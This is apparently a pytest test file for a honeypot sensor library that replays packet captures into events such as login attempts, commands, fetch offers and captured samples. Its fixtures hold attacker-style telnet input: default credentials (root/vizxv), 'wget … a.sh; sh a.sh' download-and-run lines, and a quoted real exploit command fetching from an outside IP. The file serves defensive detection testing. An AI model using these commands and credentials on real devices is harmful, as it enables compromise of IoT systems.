"""Captures give the events that a sensor would have given."""

from __future__ import annotations

import random
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from mead.errors import InputError
from mead.model.codec import encode_line
from mead.sensors.desk import CaptureSettings
from mead.sensors.persona import Persona
from mead.sensors.replay import replay

CAPTURES = Path(__file__).parents[1] / "captures"


LOST_BYTES = 700


class Frames:
    """Writes a capture of TCP conversations."""

    def __init__(self) -> None:
        self.out = bytearray(bytes.fromhex("d4c3b2a1020004000000000000000000ffff000065000000"))  # raw IP
        self.time = 1_700_000_000

    def packet(
        self,
        source: tuple[bytes, int],
        target: tuple[bytes, int],
        flags: int,
        sequence: int,
        data: bytes = b"",
    ) -> None:
        tcp = source[1].to_bytes(2) + target[1].to_bytes(2) + sequence.to_bytes(4) + bytes(4)
        tcp += bytes([5 << 4, flags]) + b"\xff\xff" + bytes(4) + data
        ip = (
            b"\x45\x00" + (20 + len(tcp)).to_bytes(2) + bytes(4) + b"\x40\x06\x00\x00" + source[0] + target[0]
        )
        frame = ip + tcp
        self.time += 1
        self.out += self.time.to_bytes(4, "little") + bytes(4) + len(frame).to_bytes(4, "little") * 2 + frame

    def conversation(
        self, port: int, *pieces: bytes | tuple[bytes], source_port: int = 40000, end: bool = True
    ) -> None:
        """A connection; a piece in brackets is the server's, an empty one of the client is lost."""
        client, server = (bytes([198, 51, 100, 7]), source_port), (bytes([192, 0, 2, 1]), port)
        self.packet(client, server, 0x02, 99)
        self.packet(server, client, 0x12, 499)
        sequence, answered = 100, 500
        for piece in pieces:
            if isinstance(piece, tuple):
                self.packet(server, client, 0x18, answered, piece[0])
                answered += len(piece[0])
                continue
            if piece:
                self.packet(client, server, 0x18, sequence, piece)
            sequence += len(piece) or LOST_BYTES
        if end:
            self.packet(client, server, 0x11, sequence)
            self.packet(server, client, 0x11, answered)

    def write(self, path: Path) -> Path:
        path.write_bytes(self.out)
        return path


async def replayed(path: Path, bodies: Any = None) -> tuple[list[Any], Any]:
    events: list[Any] = []
    counts = await replay(path, "pcap", b"r" * 32, events.append, bodies=bodies)
    assert counts.events == len(events)
    return events, counts


def of(events: list[Any], kind: str) -> list[Any]:
    return [event for event in events if event.kind == kind]


async def test_a_telnet_session_gives_logins_commands_and_offers(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(
        23, b"root\r\n", b"vizxv\r\n", b"cd /tmp; wget http://198.51.100.9/a.sh\r\n", b"exit\r\n"
    )
    path = tmp_path / "a.pcap"
    path.write_bytes(frames.out)
    events, counts = await replayed(path)
    assert (counts.flows, counts.sessions, counts.truncated_bytes) == (1, 1, 0)
    assert of(events, "login.attempt")[0].success
    assert of(events, "offer.seen")[0].url == "http://198.51.100.9/a.sh"
    assert of(events, "fetch.refused")[0].policy == "replay"
    opened, closed = of(events, "session.open")[0], of(events, "session.close")[0]
    assert (opened.src, opened.src_port, opened.dst_port, opened.service) == (
        "198.51.100.7",
        40000,
        23,
        "telnet",
    )
    assert closed.time > opened.time
    assert closed.time.year == 2023


async def test_http_is_known_on_any_port_and_uploads_are_bodies(
    tmp_path: Path, elf: bytes, bench: Any
) -> None:
    frames = Frames()
    head = (
        b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Length: %d\r\n\r\n" % len(elf)
    )
    frames.conversation(7001, head, elf[:1000], elf[1000:])
    path = tmp_path / "a.pcap"
    path.write_bytes(frames.out)
    bodies = bench("http").bodies
    events, _ = await replayed(path, bodies)
    (captured,) = of(events, "sample.captured")
    assert bodies[captured.sha256] == elf
    assert of(events, "request.received")[0].target == "/upload"


def told(events: list[Any]) -> list[tuple[Any, ...]]:
    """What the events say, without when, where and under which number."""
    own = {"time", "sensor", "session", "origin", "stream", "seq", "idx", "offer"}
    fields = [event.__struct_fields__ for event in events]
    return [
        (event.kind, *(getattr(event, name) for name in names if name not in own))
        for event, names in zip(events, fields, strict=True)
    ]


async def test_a_recorded_session_gives_the_events_that_the_live_one_gave(
    tmp_path: Path, bench: Any, elf: bytes
) -> None:
    """Logins that were refused stay refused, at a port that says nothing, at the times of the packets."""
    octal = "".join(f"\\{byte:03o}" for byte in elf[:60])
    typed = [
        b"admin\r\n", b"wrong\r\n", b"root\r\n", b"alsowrong\r\n", b"root\r\n", b"vizxv\r\n", b"enable\r\n",
        b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\r\n", f"printf '{octal}' > .x\r\n".encode(),
        b"uptime; date; cat /proc/uptime\r\n", b"exit\r\n",
    ]  # fmt: skip
    frames, pieces = Frames(), []
    at = datetime.fromtimestamp(frames.time + 1, UTC)
    persona, only_told = Persona(b"r" * 32, None, at), CaptureSettings(fetch_policy="replay")
    live = bench("telnet", seed=b"r" * 32, live=False, port=7001, persona=persona, settings=only_told)
    live.clock.set(at)
    pieces.append((live.open(),))
    for number, line in enumerate(typed):
        live.clock.advance(3 if number == 0 else 2)
        pieces += [line, (live.send(line),)]
        await live.desk.drain()
    live.closed = "closed by peer"
    await live.finish()
    frames.conversation(7001, *pieces)
    bodies = bench("telnet").bodies
    events, _ = await replayed(frames.write(tmp_path / "a.pcap"), bodies)
    assert [event.success for event in of(events, "login.attempt")] == [False, False, True]
    assert of(events, "command.input")[0].command == "enable"
    assert of(events, "sample.captured")[0].size == 60
    assert told(events)[:-1] == told(live.events)[:-1]
    left = next(at for at, event in enumerate(events) if getattr(event, "command", "") == "exit")
    assert [event.time for event in events][1:left] == [event.time for event in live.events][1:left]
    assert bodies[of(events, "sample.captured")[0].sha256] == elf[:60]


async def test_an_event_has_the_time_of_its_own_connection(tmp_path: Path, elf: bytes) -> None:
    frames = Frames()
    put = b"PUT /x HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(elf)
    first = frames.time + 1
    frames.conversation(80, put + elf)
    frames.time += 86_400
    frames.conversation(80, b"GET / HTTP/1.0\r\n\r\n", source_port=40001)
    events, _ = await replayed(frames.write(tmp_path / "a.pcap"))
    (captured,) = of(events, "sample.captured")
    assert 0 < captured.time.timestamp() - first < 10
    assert of(events, "session.open")[0].time.timestamp() == first


async def test_what_the_capture_lacks_is_told_of_the_session(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(23, b"root\r\n", b"vizxv\r\n", b"", b"id\r\n")
    events, counts = await replayed(frames.write(tmp_path / "a.pcap"))
    (lost,) = of(events, "loss.counted")
    assert counts.gaps_bytes == lost.count == LOST_BYTES
    assert (lost.unit, lost.src_port, lost.session) == ("bytes", 40000, events[0].session)


async def test_of_what_nobody_speaks_a_bounded_part_is_kept_and_that_said(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(4444, *[b"\x00mystery" * 1000] * 12)
    events, _ = await replayed(frames.write(tmp_path / "a.pcap"))
    assert of(events, "payload.received")[0].size == 1 << 16
    (reached,) = of(events, "limit.reached")
    assert (reached.limit, reached.limit_value) == ("max_unknown_bytes", 1 << 16)


async def test_any_damage_to_a_capture_is_survived(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(
        23, (b"\xff\xfd\x01login: ",), b"root\r\n", (b"Password: ",), b"x\r\n", (b"# ",), b"id\r\n"
    )
    frames.conversation(80, b"POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc", (b"HTTP/1.0 200 OK\r\n\r\n",))
    dice = random.Random(20030331)
    for number in range(150):
        damaged = bytearray(frames.out)
        for _ in range(dice.randrange(1, 5)):
            place = dice.randrange(24, len(damaged))
            if dice.random() < 0.2:
                del damaged[place : place + dice.randrange(80)]
            else:
                damaged[place] ^= 1 << dice.randrange(8)
        path = tmp_path / f"{number}.pcap"
        path.write_bytes(damaged)
        events, counts = await replayed(path)
        assert len(of(events, "session.open")) == len(of(events, "session.close")) == counts.sessions


async def test_a_second_replay_gives_the_same_events(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(23, b"root\r\n", b"root\r\n", b"echo hello\r\n")
    frames.conversation(80, b"GET / HTTP/1.0\r\n\r\n", source_port=40001)
    path = tmp_path / "a.pcap"
    path.write_bytes(frames.out)
    first, second = (await replayed(path))[0], (await replayed(path))[0]
    assert [encode_line(event) for event in first] == [encode_line(event) for event in second]
    assert len({event.origin for event in first}) == 1


async def test_unknown_payloads_are_kept_and_scans_counted(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(4444, b"\x00\x01\x02mystery", b"more")
    frames.conversation(22, source_port=40001)
    path = tmp_path / "a.pcap"
    path.write_bytes(frames.out)
    events, counts = await replayed(path)
    assert (counts.sessions, counts.scans) == (1, 1)
    assert of(events, "payload.received")[0].size == 14


async def test_a_truncated_capture_gives_what_it_has_and_says_so(tmp_path: Path) -> None:
    frames = Frames()
    frames.conversation(23, b"root\r\n", b"vizxv\r\n", b"id\r\n", end=False)
    path = tmp_path / "a.pcap"
    path.write_bytes(bytes(frames.out) + b"\x01\x02\x03\x04half a header")
    events, counts = await replayed(path)
    assert counts.truncated_bytes == 17
    assert counts.problems
    assert of(events, "command.input")[0].command == "id"
    assert of(events, "loss.counted")[0].what == "capture"
    assert of(events, "session.close")[0].reason == "end"


async def test_a_file_that_is_no_capture_is_a_counted_problem_and_a_missing_one_an_error(
    tmp_path: Path,
) -> None:
    path = tmp_path / "x"
    path.write_bytes(b"not a capture" * 100)
    _, counts = await replayed(path)
    assert counts.problems
    with pytest.raises(InputError, match="No such file"):
        await replayed(tmp_path / "missing.pcap")


@pytest.mark.parametrize(
    "path", sorted([*CAPTURES.rglob("*.pcap"), *CAPTURES.rglob("*.pcapng")]), ids=lambda path: path.name
)
async def test_real_captures_are_read_to_their_end(path: Path) -> None:
    events, counts = await replayed(path)
    assert counts.frames > 0
    for event in events:
        encode_line(event)
    assert len(of(events, "session.open")) == len(of(events, "session.close")) == counts.sessions


async def test_a_real_exploit_in_a_real_capture_is_seen() -> None:
    events, counts = await replayed(CAPTURES / "attack" / "uqo-honeytrap_5k.pcap")
    assert (counts.frames, counts.problems) == (375, [])
    assert len({event.src for event in of(events, "session.open")}) > 100
    (exploit,) = of(events, "exploit.seen")
    assert exploit.rule == "generic-command-injection"
    assert "wget http:/\\/176.65.140.135/efefa7" in exploit.command
    assert {event.fingerprint_kind for event in of(events, "client.seen")} == {"ja3", "ja4", "banner"}
